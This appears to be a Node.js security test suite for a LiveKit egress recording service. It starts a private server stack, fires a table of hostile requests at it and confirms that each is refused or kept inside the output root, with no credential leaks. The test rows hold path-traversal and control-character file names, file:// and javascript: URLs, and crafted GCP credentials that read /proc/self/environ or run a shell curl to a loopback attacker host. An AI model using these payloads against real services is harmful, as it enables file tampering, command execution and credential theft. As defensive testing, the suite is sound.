// Hostile requests against the real stack: whoever can start an egress, name a room or a participant, or write the
// recorded page is untrusted. A table of requests, each refused naming the field or recorded inside the output
// root; then nothing was written outside the root, a loopback "attacker" heard nothing, and no credential canary
// shows up in ListEgress, webhooks, livekit-server's Redis, logs, manifests, or any recorder process's argv and
// environment. The test runs its own livekit-server (and Redis) so that it can receive the server's webhooks.
import { after, before, describe, test } from 'node:test';
import assert from 'node:assert/strict';
import { createHash, generateKeyPairSync, randomBytes } from 'node:crypto';
import { mkdirSync, readdirSync, readFileSync, readlinkSync, statSync } from 'node:fs';
import { mkdtemp, rm, writeFile } from 'node:fs/promises';
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import os from 'node:os';
import path from 'node:path';
import { sleep } from '@egress/shared/testing/wait';
import { ProxyConfig } from '@livekit/protocol';
import { descendantsOf } from '@egress/shared/host/procfs';
import { Redis } from 'ioredis';
import {
  AliOSSUpload,
  AzureBlobUpload,
  DirectFileOutput,
  EgressClient,
  EgressStatus,
  EncodedFileOutput,
  GCPUpload,
  ImageOutput,
  RoomServiceClient,
  S3Upload,
  SegmentedFileOutput,
  StreamOutput,
  StreamProtocol,
  TrackType,
  TwirpError,
  type EgressInfo,
} from 'livekit-server-sdk';
import { startTestPage, type TestPageServer } from '@egress/recorder/testing/test-page';
import { createGcsBucket, storageServers } from '@egress/recorder/testing/storage-servers';
import { leftoversAfter } from './fixtures/leftovers.js';
import { startPrivateLivekit, type PrivateLivekit } from './fixtures/private-livekit.js';
import { disposeRtc, startPublisher, type Publisher } from './fixtures/publisher.js';
import { startService, TERMINAL, waitForStatus, type RunningService } from './fixtures/stack.js';
import { startRtmpServer, type RtmpServer } from './fixtures/stream-receivers.js';

/** One distinct value per credential field; none may appear anywhere the node's output reaches. */
const tag = randomBytes(4).toString('hex');
/** A real key: the service checks that a service account's private_key is a PEM key. */
const SA_PEM = generateKeyPairSync('rsa', { modulusLength: 2048 }).privateKey.export({
  type: 'pkcs8',
  format: 'pem',
}) as string;
const CANARY = {
  apiSecret: `cfgsecret${tag}${randomBytes(8).toString('hex')}`.slice(0, 32),
  s3Key: `AKIAS3KEY${tag}`.toUpperCase(),
  s3Secret: `s3secret-${tag}`,
  s3Token: `s3token-${tag}`,
  s3ExternalId: `s3extid-${tag}`,
  gcpKey: `gcpkey-${tag}`,
  // One whole line of the key's base64 body: a JSON copy escapes the newlines around it, not the line.
  gcpPrivateKey: SA_PEM.split('\n')[2]!,
  gcpEnvironSteal: `gcpenv-${tag}`,
  azureKey: Buffer.from(`azurekey-${tag}`).toString('base64'),
  aliKey: `alikey-${tag}`,
  aliSecret: `alisecret-${tag}`,
  proxyPassword: `proxypass-${tag}`,
  rtmpKey: `rtmpkey${tag}`,
  srtPassphrase: `srtpass${tag}x`,
  pageToken: `pagetoken${tag}`,
  wsQuery: `wsquery${tag}`,
};

const FIELD_REFUSED = Symbol('refused');
type Expectation =
  | { kind: typeof FIELD_REFUSED; code: string; pattern: RegExp }
  /** Recorded (any end) and every output it reports lies inside the output root, outside scratch and logs. */
  | { kind: 'inside'; status?: EgressStatus[]; check?: (done: EgressInfo) => void };

interface Row {
  name: string;
  call: () => Promise<EgressInfo>;
  expect: Expectation;
}

const refused = (pattern: RegExp, code = 'invalid_argument'): Expectation => ({ kind: FIELD_REFUSED, code, pattern });
const inside = (more: Omit<Extract<Expectation, { kind: 'inside' }>, 'kind'> = {}): Expectation => ({
  kind: 'inside',
  ...more,
});

/** Every path under `root` with a hash of its content (or its link target), skipping `skip`. */
function snapshot(root: string, skip: string[] = []): Map<string, string> {
  const out = new Map<string, string>();
  const walk = (dir: string) => {
    for (const name of readdirSync(dir)) {
      const p = path.join(dir, name);
      if (skip.includes(p)) continue;
      const st = statSync(p, { throwIfNoEntry: false });
      if (!st) continue;
      if (st.isDirectory()) {
        out.set(p, 'dir');
        walk(p);
      } else if (st.isSymbolicLink()) out.set(p, `link:${readlinkSync(p)}`);
      else out.set(p, createHash('sha256').update(readFileSync(p)).digest('hex'));
    }
  };
  walk(root);
  return out;
}

/** Every file below `dir`. */
function filesBelow(dir: string): string[] {
  const out: string[] = [];
  const walk = (d: string) => {
    for (const e of readdirSync(d, { withFileTypes: true })) {
      const p = path.join(d, e.name);
      if (e.isDirectory()) walk(p);
      else out.push(p);
    }
  };
  walk(dir);
  return out;
}

/** A loopback HTTP server that records every request body it receives. */
async function recordingServer(): Promise<{ server: Server; url: string; bodies: string[]; connections: number }> {
  const state = { bodies: [] as string[], connections: 0 };
  const server = createServer((req, res) => {
    let body = `${req.method} ${req.url} ${JSON.stringify(req.headers)}\n`;
    req.on('data', (c: Buffer) => (body += c.toString('latin1')));
    req.on('end', () => {
      state.bodies.push(body);
      res.end('ok');
    });
  });
  server.on('connection', () => state.connections++);
  await new Promise<void>((r) => server.listen(0, '127.0.0.1', r));
  const url = `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
  return {
    server,
    url,
    get bodies() {
      return state.bodies;
    },
    get connections() {
      return state.connections;
    },
  };
}

describe('hostile requests', { timeout: 600_000 }, () => {
  let base: string;
  let outDir: string;
  let tmpDir: string;
  let logDir: string;
  let canaryDir: string;
  let before0: Map<string, string>;
  let lk: PrivateLivekit;
  let svc: RunningService;
  let page: TestPageServer;
  let client: EgressClient;
  let rooms: RoomServiceClient;
  let hooks: Awaited<ReturnType<typeof recordingServer>>;
  let attacker: Awaited<ReturnType<typeof recordingServer>>;
  let rtmp: RtmpServer;
  let publisher: Publisher | undefined;
  let gcsBucket: string;
  /** argv and environment of every recorder process seen while the table ran. */
  const procText = new Map<string, string>();
  const egressIds: string[] = [];
  let sampler: NodeJS.Timeout | undefined;
  const roomName = `../../.s/EG_victim/capture\n#${tag}`;
  // livekit-server takes identities up to 256 bytes: with a suffix in the same name this one must be cut.
  const identity = `../../canary/\u0001${'é'.repeat(115)}`;

  before(async () => {
    base = await mkdtemp(path.join(os.tmpdir(), 'eh-'));
    outDir = path.join(base, 'out');
    // Scratch and logs inside the output root: a request must not reach them through it.
    tmpDir = path.join(outDir, '.s');
    logDir = path.join(outDir, '.logs');
    canaryDir = path.join(base, 'canary');
    for (const d of [outDir, tmpDir, logDir, path.join(canaryDir, 'etc'), path.join(canaryDir, 'home/egress')]) {
      mkdirSync(d, { recursive: true });
    }
    await writeFile(path.join(canaryDir, 'home/egress/.profile'), 'canary profile\n');
    await writeFile(path.join(canaryDir, 'etc/passwd'), 'canary passwd\n');

    hooks = await recordingServer();
    attacker = await recordingServer();
    lk = await startPrivateLivekit({
      apiSecret: CANARY.apiSecret,
      rtcRange: [53000, 53199],
      webhookUrls: [`${hooks.url}/hook`],
      dir: base,
    });
    const httpUrl = lk.env.wsUrl.replace(/^ws/, 'http');
    client = new EgressClient(httpUrl, lk.env.apiKey, lk.env.apiSecret);
    rooms = new RoomServiceClient(httpUrl, lk.env.apiKey, lk.env.apiSecret);
    page = await startTestPage();
    rtmp = await startRtmpServer([CANARY.rtmpKey]);
    gcsBucket = `hostile-${tag}`;
    await createGcsBucket(gcsBucket);
    const servers = storageServers();
    svc = await startService(
      [
        // Cheap enough that two recordings of the table run side by side on a small machine.
        'cpu_cost: { web_cpu_cost: 0.2, room_composite_cpu_cost: 0.2, participant_cpu_cost: 0.2, track_cpu_cost: 0.2 }',
        'recorder_restarts: 0',
      ].join('\n'),
      {
        stack: lk.env,
        dirs: { outDir, tmpDir, logDir },
        env: {
          EGRESS_AZURE_BLOB_ENDPOINT: servers.azure.serviceUrlTemplate,
          EGRESS_GCS_ENDPOINT: servers.gcs.endpoint,
        },
      },
    );
    before0 = snapshot(base, [outDir]);
    // Sample the argv and environment of everything the service runs, while it runs.
    // A child the supervisor has forked but not yet exec'd still shows the supervisor's own memory (its command
    // line and environment): that is not a child's environment, so it is told apart by the command line.
    const serviceCmdline = readFileSync(`/proc/${svc.proc.pid}/cmdline`, 'latin1');
    sampler = setInterval(() => {
      for (const pid of descendantsOf(svc.proc.pid!)) {
        try {
          if (readFileSync(`/proc/${pid}/cmdline`, 'latin1') === serviceCmdline) continue;
        } catch {
          continue;
        }
        for (const file of ['cmdline', 'environ']) {
          try {
            procText.set(`${pid}/${file}`, readFileSync(`/proc/${pid}/${file}`, 'latin1'));
          } catch {
            // gone meanwhile
          }
        }
      }
    }, 100);
  });

  after(async () => {
    clearInterval(sampler);
    await publisher?.stop();
    await svc?.stop('SIGINT');
    await disposeRtc();
    await lk?.stop();
    await page?.close();
    await rtmp?.stop();
    hooks?.server.close();
    attacker?.server.close();
    if (base) await rm(base, { recursive: true, force: true });
  });

  const web = (filepath: string, more: Partial<ConstructorParameters<typeof EncodedFileOutput>[0]> = {}) =>
    client.startWebEgress(page.urlFor(), new EncodedFileOutput({ filepath, ...more }));

  const gcpRow = (name: string, credentials: string): Row => ({
    name,
    call: () => web('gcp.mp4', { output: { case: 'gcp', value: new GCPUpload({ credentials, bucket: gcsBucket }) } }),
    expect: refused(/gcp\.credentials/),
  });

  function rows(): Row[] {
    const abs = (p: string) => path.join(canaryDir, p);
    return [
      // --- paths: refused naming the field -------------------------------------------------------------
      { name: 'dot-dot in the middle', call: () => web('a/../../etc/x.mp4'), expect: refused(/filepath.*\.\./s) },
      { name: 'leading dot-dot', call: () => web('../x.mp4'), expect: refused(/filepath/) },
      { name: 'dot-dot to the canary', call: () => web(`../canary/etc/passwd`), expect: refused(/filepath/) },
      { name: 'only dot-dot', call: () => web('..'), expect: refused(/filepath/) },
      { name: 'NUL', call: () => web('x\u0000y.mp4'), expect: refused(/filepath/) },
      { name: 'newline', call: () => web('x\ny.mp4'), expect: refused(/filepath/) },
      { name: 'carriage return', call: () => web('x\ry.mp4'), expect: refused(/filepath/) },
      { name: 'escape sequence', call: () => web('x\u001b[31my.mp4'), expect: refused(/filepath/) },
      { name: 'DEL', call: () => web('x\u007fy.mp4'), expect: refused(/filepath/) },
      { name: 'into the scratch dir', call: () => web('.s/EG_victim/capture.mp4'), expect: refused(/filepath/) },
      { name: 'into the log dir', call: () => web('.logs/EG_victim.log'), expect: refused(/filepath/) },
      { name: 'backslash dot-dot', call: () => web('a\\..\\..\\x.mp4'), expect: refused(/filepath/) },
      { name: 'percent-encoded dot-dot', call: () => web('a/%2e%2E/%2e%2e/x.mp4'), expect: refused(/filepath/) },
      { name: 'unicode line separator', call: () => web('x\u2028y.mp4'), expect: refused(/filepath/) },
      {
        name: 'image prefix with a newline',
        call: () => client.startWebEgress(page.urlFor(), { images: new ImageOutput({ filenamePrefix: 'img\nx' }) }),
        expect: refused(/filename_prefix|filenamePrefix/),
      },
      {
        name: 'absolute into the scratch dir',
        call: () => web(path.join(tmpDir, 'EG_victim/capture.mp4')),
        expect: refused(/filepath/),
      },
      {
        name: 'segments prefix climbing out',
        call: () =>
          client.startWebEgress(page.urlFor(), {
            segments: new SegmentedFileOutput({ filenamePrefix: '../../seg', playlistName: 'p.m3u8' }),
          }),
        expect: refused(/filename_prefix|filenamePrefix/),
      },
      {
        name: 'playlist name injecting playlist lines',
        call: () =>
          client.startWebEgress(page.urlFor(), {
            segments: new SegmentedFileOutput({ filenamePrefix: 'seg', playlistName: 'p\n#EXT-X-ENDLIST\n.m3u8' }),
          }),
        expect: refused(/playlist_name|playlistName/),
      },
      {
        name: 'live playlist climbing out',
        call: () =>
          client.startWebEgress(page.urlFor(), {
            segments: new SegmentedFileOutput({
              filenamePrefix: 'seg',
              playlistName: 'p.m3u8',
              livePlaylistName: '../../live.m3u8',
            }),
          }),
        expect: refused(/live_playlist_name|livePlaylistName/),
      },
      {
        name: 'image prefix climbing out',
        call: () => client.startWebEgress(page.urlFor(), { images: new ImageOutput({ filenamePrefix: '../../img' }) }),
        expect: refused(/filename_prefix|filenamePrefix/),
      },
      // --- URLs ------------------------------------------------------------------------------------------
      {
        name: 'file:// page',
        call: () => client.startWebEgress('file:///etc/passwd', new EncodedFileOutput({ filepath: 'f.mp4' })),
        expect: refused(/web\.url/),
      },
      {
        name: 'javascript: page',
        call: () => client.startWebEgress('javascript:alert(1)', new EncodedFileOutput({ filepath: 'j.mp4' })),
        expect: refused(/web\.url/),
      },
      {
        name: 'too many stream URLs',
        call: () =>
          client.startWebEgress(page.urlFor(), {
            stream: new StreamOutput({
              protocol: StreamProtocol.RTMP,
              urls: Array.from({ length: 40 }, (_, i) => `rtmp://127.0.0.1:1/live/k${i}`),
            }),
          }),
        expect: refused(/urls/),
      },
      {
        name: 'a 16 KiB stream URL',
        call: () =>
          client.startWebEgress(page.urlFor(), {
            stream: new StreamOutput({
              protocol: StreamProtocol.RTMP,
              urls: [`rtmp://127.0.0.1:1/live/${'k'.repeat(16 * 1024)}`],
            }),
          }),
        expect: refused(/urls/),
      },
      // --- request credentials are data, never code -------------------------------------------------------
      gcpRow(
        'GCP external_account reading the environment',
        JSON.stringify({
          type: 'external_account',
          audience: 'x',
          subject_token_type: 'urn:ietf:params:oauth:token-type:jwt',
          token_url: `${attacker.url}/token`,
          credential_source: { file: '/proc/self/environ' },
        }),
      ),
      gcpRow(
        'GCP external_account from a URL',
        JSON.stringify({
          type: 'external_account',
          audience: 'x',
          subject_token_type: 'urn:ietf:params:oauth:token-type:jwt',
          token_url: `${attacker.url}/token`,
          credential_source: { url: `${attacker.url}/subject`, headers: { x: CANARY.gcpEnvironSteal } },
        }),
      ),
      gcpRow(
        'GCP external_account running a command',
        JSON.stringify({
          type: 'external_account',
          audience: 'x',
          subject_token_type: 'urn:ietf:params:oauth:token-type:jwt',
          token_url: `${attacker.url}/token`,
          credential_source: { executable: { command: `/bin/sh -c "curl ${attacker.url}"` } },
        }),
      ),
      gcpRow(
        'GCP authorized_user',
        JSON.stringify({ type: 'authorized_user', client_id: 'x', client_secret: CANARY.gcpKey, refresh_token: 'r' }),
      ),
      gcpRow(
        'GCP impersonated_service_account',
        JSON.stringify({
          type: 'impersonated_service_account',
          service_account_impersonation_url: `${attacker.url}/imp`,
          source_credentials: { type: 'authorized_user', client_secret: CANARY.gcpKey },
        }),
      ),
      gcpRow('GCP service_account without a key', JSON.stringify({ type: 'service_account', client_email: 'a@b' })),
      gcpRow('GCP credentials that are not JSON', `not json ${CANARY.gcpKey}`),
      gcpRow('GCP credentials that are a JSON string', JSON.stringify(CANARY.gcpKey)),
      {
        name: 'S3 AssumeRole with an external id',
        call: () =>
          web('s3ar.mp4', {
            output: {
              case: 's3',
              value: new S3Upload({
                bucket: 'b',
                assumeRoleArn: 'arn:aws:iam::1:role/x',
                assumeRoleExternalId: CANARY.s3ExternalId,
              }),
            },
          }),
        expect: refused(/assume_role/, 'unimplemented'),
      },
      {
        name: 'S3 through a proxy with a password',
        call: () =>
          web('s3proxy.mp4', {
            output: {
              case: 's3',
              value: new S3Upload({
                bucket: 'b',
                accessKey: CANARY.s3Key,
                secret: CANARY.s3Secret,
                proxy: new ProxyConfig({ url: `${attacker.url}/`, username: 'u', password: CANARY.proxyPassword }),
              }),
            },
          }),
        expect: refused(/proxy/, 'unimplemented'),
      },
      {
        name: 'Alibaba OSS keys',
        call: () =>
          web('ali.mp4', {
            output: {
              case: 'aliOSS',
              value: new AliOSSUpload({
                accessKey: CANARY.aliKey,
                secret: CANARY.aliSecret,
                bucket: 'b',
                endpoint: attacker.url,
              }),
            },
          }),
        expect: refused(/aliOSS|alioss/i, 'unimplemented'),
      },
      // --- recorded, inside the root ------------------------------------------------------------------------
      {
        name: 'absolute path outside the root',
        call: () => web(abs('home/egress/.profile')),
        expect: inside(),
      },
      { name: 'absolute path to the canary passwd', call: () => web(abs('etc/passwd')), expect: inside() },
      {
        name: 'absolute path inside the root stays',
        call: () => web(path.join(outDir, 'abs/kept.mp4')),
        expect: inside({
          check: (d) => assert.equal(d.fileResults[0]?.location, path.join(outDir, 'abs/kept.mp4')),
        }),
      },
      {
        name: 'a 300-byte file name is cut, not refused by the filesystem',
        call: () => web(`long/${'x'.repeat(300)}.mp4`),
        expect: inside({ status: [EgressStatus.EGRESS_COMPLETE] }),
      },
      { name: 'slash runs', call: () => web(`//${canaryDir}//./slashes.mp4`), expect: inside() },
      {
        name: 'room name placeholder in a web egress',
        call: () => web('rec/{room_name}-{time}.mp4'),
        expect: inside(),
      },
      {
        name: 'a page token and credentials for an S3 that refuses them',
        call: () =>
          client.startWebEgress(
            `${page.urlFor()}${page.urlFor().includes('?') ? '&' : '?'}access_token=${CANARY.pageToken}`,
            new EncodedFileOutput({
              filepath: 's3canary.mp4',
              output: {
                case: 's3',
                value: new S3Upload({
                  bucket: 'no-such-bucket',
                  region: 'us-east-1',
                  endpoint: storageServers().s3.endpoint,
                  forcePathStyle: true,
                  accessKey: CANARY.s3Key,
                  secret: CANARY.s3Secret,
                  sessionToken: CANARY.s3Token,
                }),
              },
            }),
          ),
        expect: inside(),
      },
      {
        name: 'an Azure key the server refuses',
        call: () =>
          web('azcanary.mp4', {
            output: {
              case: 'azure',
              value: new AzureBlobUpload({
                accountName: storageServers().azure.account,
                accountKey: CANARY.azureKey,
                containerName: 'nope',
              }),
            },
          }),
        expect: inside(),
      },
      {
        name: 'a GCP service-account key whose token_uri is the attacker',
        call: () =>
          web('gcpsa.mp4', {
            output: {
              case: 'gcp',
              value: new GCPUpload({
                bucket: gcsBucket,
                credentials: JSON.stringify({
                  type: 'service_account',
                  client_email: 'rec@example.iam.gserviceaccount.com',
                  private_key: SA_PEM,
                  token_uri: `${attacker.url}/token`,
                }),
              }),
            },
          }),
        // Uploaded to the loopback GCS emulator, which needs no token: asking any token endpoint would fail it.
        expect: inside({ status: [EgressStatus.EGRESS_COMPLETE] }),
      },
      {
        name: 'a stream key',
        call: () =>
          client.startWebEgress(page.urlFor(), {
            stream: new StreamOutput({
              protocol: StreamProtocol.RTMP,
              urls: [rtmp.url(CANARY.rtmpKey)],
            }),
            file: new EncodedFileOutput({ filepath: 'streamed.mp4' }),
          }),
        expect: inside(),
      },
      {
        name: 'an SRT passphrase',
        call: () =>
          client.startWebEgress(page.urlFor(), {
            stream: new StreamOutput({
              protocol: StreamProtocol.SRT,
              urls: [`srt://127.0.0.1:9?passphrase=${CANARY.srtPassphrase}&streamid=${CANARY.srtPassphrase}`],
            }),
            file: new EncodedFileOutput({ filepath: 'srt.mp4' }),
          }),
        expect: inside(),
      },
      {
        name: 'a page whose div.error is 12 KiB',
        call: () =>
          client.startWebEgress(
            page.urlFor({ error: 'E'.repeat(12 * 1024) }),
            new EncodedFileOutput({ filepath: 'bigerror.mp4' }),
          ),
        expect: inside({
          status: [EgressStatus.EGRESS_FAILED],
          check: (d) => assert.ok(Buffer.byteLength(d.error) <= 4096, `error of ${Buffer.byteLength(d.error)} bytes`),
        }),
      },
      // --- names from the room ------------------------------------------------------------------------------
      {
        name: 'room composite named to climb into a scratch capture',
        call: () =>
          client.startRoomCompositeEgress(roomName, new EncodedFileOutput({ filepath: 'rc/{room_name}.mp4' }), {
            layout: 'grid',
            audioOnly: true,
          }),
        expect: inside(),
      },
      {
        name: 'participant egress of a hostile identity',
        call: () =>
          client.startParticipantEgress(roomName, identity, {
            segments: new SegmentedFileOutput({ filenamePrefix: 'p/{room_name}/seg', playlistName: 'p.m3u8' }),
          }),
        expect: inside(),
      },
      {
        name: 'track egress with {publisher_identity} filled late',
        call: async () => {
          const p = (await rooms.listParticipants(roomName)).find((x) => x.identity === identity);
          const track = p?.tracks.find((t) => t.type === TrackType.AUDIO);
          assert.ok(track, 'the publisher has an audio track');
          return client.startTrackEgress(
            roomName,
            new DirectFileOutput({ filepath: 'track/{publisher_identity}-{track_type}-{track_id}' }),
            track.sid,
          );
        },
        expect: inside({
          status: [EgressStatus.EGRESS_COMPLETE],
          check: (d) => assert.equal(d.fileResults.length, 1, 'the track file is reported'),
        }),
      },
      {
        name: 'track egress to a websocket with a query secret',
        call: async () => {
          const p = (await rooms.listParticipants(roomName)).find((x) => x.identity === identity);
          const track = p?.tracks.find((t) => t.type === TrackType.AUDIO);
          assert.ok(track, 'the publisher has an audio track');
          return client.startTrackEgress(roomName, `ws://127.0.0.1:9/ws?key=${CANARY.wsQuery}`, track.sid);
        },
        expect: inside({ status: TERMINAL }),
      },
    ];
  }

  /** Runs one recorded row for ~1.5 s of ACTIVE and checks where its outputs are. */
  async function record(row: Row, exp: Extract<Expectation, { kind: 'inside' }>): Promise<void> {
    const info = await row.call();
    egressIds.push(info.egressId);
    const reached = await waitForStatus(client, info.egressId, [EgressStatus.EGRESS_ACTIVE, ...TERMINAL], 45_000);
    if (reached.status === EgressStatus.EGRESS_ACTIVE) {
      await sleep(1500);
      await client.stopEgress(info.egressId).catch(() => {});
    }
    const done = await waitForStatus(client, info.egressId, TERMINAL, 60_000);
    if (exp.status) {
      assert.ok(exp.status.includes(done.status), `${row.name}: ${EgressStatus[done.status]} ${done.error}`);
    }
    const rootOk = (p: string, what: string) => {
      if (!p || /^[a-z]+:\/\//.test(p)) return; // an upload's URL
      const rel = path.relative(outDir, p);
      assert.ok(!rel.startsWith('..') && !path.isAbsolute(rel), `${row.name}: ${what} ${p} is outside the root`);
      for (const guarded of [tmpDir, logDir]) {
        const r = path.relative(guarded, p);
        assert.ok(r.startsWith('..'), `${row.name}: ${what} ${p} is inside ${guarded}`);
      }
      for (const part of rel.split(path.sep)) {
        assert.ok(Buffer.byteLength(part) <= 255, `${row.name}: component of ${Buffer.byteLength(part)} bytes`);
        assert.ok(
          ![...part].some((c) => c.charCodeAt(0) < 0x20 || c.charCodeAt(0) === 0x7f),
          `${row.name}: control character in ${JSON.stringify(p)}`,
        );
      }
    };
    for (const f of done.fileResults) rootOk(f.location, 'file');
    for (const s of done.segmentResults) rootOk(s.playlistLocation, 'playlist');
    exp.check?.(done);
  }

  test('a table of hostile requests: each refused naming the field, or recorded inside the root', async () => {
    await rooms.createRoom({ name: roomName });
    publisher = await startPublisher({
      wsUrl: lk.env.wsUrl,
      apiKey: lk.env.apiKey,
      apiSecret: lk.env.apiSecret,
      room: roomName,
      identity,
      maxDurationMs: 300_000,
    });
    const table = rows();
    assert.ok(table.length >= 40, `${table.length} rows`);
    const failures: string[] = [];
    const recorded: Promise<void>[] = [];
    let running = 0;
    for (const row of table) {
      const exp = row.expect;
      if (exp.kind === FIELD_REFUSED) {
        try {
          const info = await row.call();
          egressIds.push(info.egressId);
          failures.push(`${row.name}: accepted (${info.egressId})`);
          // Stopped at once, so that one wrongly accepted row does not take the capacity the others need.
          await client.stopEgress(info.egressId).catch(() => {});
        } catch (err) {
          if (!(err instanceof TwirpError)) failures.push(`${row.name}: ${String(err)}`);
          else if (err.code !== exp.code || !exp.pattern.test(err.message)) {
            failures.push(`${row.name}: ${err.code} ${err.message.slice(0, 300)}`);
          }
        }
        continue;
      }
      // One recording at a time: with two, a loaded machine's CPU guard may stop one before it starts.
      while (running >= 1) await sleep(100);
      running++;
      recorded.push(
        record(row, exp)
          .catch((err: unknown) => void failures.push(`${row.name}: ${(err as Error).message.slice(0, 400)}`))
          .finally(() => running--),
      );
    }
    await Promise.all(recorded);
    assert.deepEqual(failures, []);
  });

  test('nothing outside the root changed, and the attacker heard nothing', () => {
    assert.deepEqual([...snapshot(base, [outDir, path.join(base, 'livekit.log')])], [...before0]);
    assert.equal(attacker.connections, 0, attacker.bodies.join('\n'));
  });

  test('no credential canary anywhere the node output reaches', async () => {
    // Webhooks are posted as the server learns of each end.
    await sleep(2000);
    const places: [string, string][] = [];
    const infos = await client.listEgress({});
    places.push(['ListEgress', JSON.stringify(infos.map((i) => i.toJson()))]);
    places.push(['webhooks', hooks.bodies.join('\n')]);
    const redis = new Redis(`redis://${lk.redis.address}`);
    try {
      for (const key of await redis.keys('*')) {
        const type = await redis.type(key);
        const value =
          type === 'string'
            ? ((await redis.getBuffer(key)) ?? Buffer.alloc(0))
            : type === 'hash'
              ? Object.entries(await redis.hgetallBuffer(key))
                  .map(([field, v]) => `${field}=${v.toString('latin1')}`)
                  .join('\n')
              : type === 'list'
                ? (await redis.lrangeBuffer(key, 0, -1)).map((b) => b.toString('latin1')).join('\n')
                : type === 'set'
                  ? (await redis.smembersBuffer(key)).map((b) => b.toString('latin1')).join('\n')
                  : type === 'zset'
                    ? (await redis.zrangeBuffer(key, 0, -1)).map((b) => b.toString('latin1')).join('\n')
                    : '';
        places.push([`redis ${key}`, Buffer.isBuffer(value) ? value.toString('latin1') : value]);
      }
    } finally {
      redis.disconnect();
    }
    places.push(['service log', svc.logs.join('\n')]);
    for (const f of filesBelow(outDir)) {
      if (/\.(json|log|m3u8|txt)(\.\d+)?$/.test(f) || f.startsWith(logDir)) {
        places.push([path.relative(outDir, f), readFileSync(f, 'latin1')]);
      }
    }
    const health = await fetch(`http://127.0.0.1:${svc.healthPort}/`).then((r) => r.text());
    places.push(['health', health]);
    const metrics = await fetch(`http://127.0.0.1:${svc.metricsPort}/metrics`).then((r) => r.text());
    places.push(['metrics', metrics]);
    assert.ok(procText.size > 0, 'recorder processes were sampled');
    for (const [k, v] of procText) places.push([`/proc/${k}`, v]);

    // One line per leaked value, naming where it was found (processes by file name only).
    const leaks = new Map<string, Set<string>>();
    const leak = (what: string, where: string) => {
      const place = where.startsWith('/proc/') ? `/proc/*/${path.basename(where)}` : where;
      leaks.set(what, (leaks.get(what) ?? new Set()).add(place));
    };
    for (const [where, text] of places) {
      for (const [field, canary] of Object.entries(CANARY)) if (text.includes(canary)) leak(field, where);
      if (where.startsWith('/proc/') && text.includes('EGRESS_CONFIG_BODY')) leak('EGRESS_CONFIG_BODY', where);
    }
    assert.deepEqual(
      [...leaks].map(([what, where]) => `${what} in ${[...where].join(', ')}`),
      [],
    );
    assert.ok(egressIds.length > 0);
  });

  test('every recorder process is gone', async () => {
    assert.deepEqual(await leftoversAfter(5000, egressIds), []);
  });
});
